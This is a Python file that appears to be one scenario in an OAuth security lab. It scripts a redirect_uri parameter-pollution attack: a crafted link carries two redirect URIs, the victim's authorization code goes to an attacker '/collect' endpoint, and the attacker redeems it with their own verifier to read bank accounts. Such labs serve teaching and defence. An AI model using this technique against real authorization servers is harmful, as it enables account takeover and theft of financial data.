"""One request with two redirect URIs: the first is compared, the last is used."""

from urllib.parse import urlencode

from labs.stage import Stage
from labs.steps import step


@step("attacker")
def makes_a_link(stage: Stage) -> None:
    """Make a link in Balance's name, with an own challenge: first Balance's redirect URI, then the attacker's."""
    second = urlencode({"redirect_uri": f"{stage.here.attacker}/collect"})
    # Readers of a query differ: some take the first, some the last, some a list. The attacker needs two that differ.
    stage.onward = f"{stage.link('balance', stage.callback('balance'))}&{second}"


@step("Alice")
def alice_follows_the_link(stage: Stage) -> None:
    """Follow the link, sign in at the real Bank ID as alice, and allow."""
    stage.lead_alice().agree()


@step("attacker")
def spends_the_code(stage: Stage) -> None:
    """Redeem the code that came, with the attacker's own verifier; then ask the bank."""
    if token := stage.redeem_newest("balance", f"{stage.here.attacker}/collect"):
        stage.attacker.bank("GET", "/accounts", token)
